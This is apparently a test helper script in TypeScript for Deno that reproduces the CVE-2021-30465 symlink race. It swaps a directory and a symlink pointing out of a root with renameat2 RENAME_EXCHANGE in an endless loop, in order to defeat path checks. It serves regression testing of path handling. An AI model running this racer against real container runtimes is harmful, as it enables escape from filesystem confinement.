/**
 * The swapped-symlink racer of the paths test (CVE-2021-30465): swaps `<dir>/d` (a directory) and
 * `<dir>/l` (a symlink to `target`) with renameat2(RENAME_EXCHANGE) in a tight loop, so that `d` is, at
 * any instant, either a real directory or a symlink out of the root. Runs until killed.
 *
 * Usage: deno run -A racer.ts <dir> <target>
 */
import { rawSyscall } from "../../ffi/libc.ts";
import { addr, cstr } from "../../ffi/mem.ts";
import { AT } from "../../ffi/mod.ts";

const RENAME_EXCHANGE = 2;
const [dir, target] = Deno.args;
Deno.mkdirSync(`${dir}/d`, { recursive: true });
Deno.symlinkSync(target, `${dir}/l`);
const d = cstr(`${dir}/d`), l = cstr(`${dir}/l`);
console.log("racing");
for (let i = 0;; i++) {
  rawSyscall("renameat2", AT.FDCWD, addr(d), AT.FDCWD, addr(l), RENAME_EXCHANGE);
}
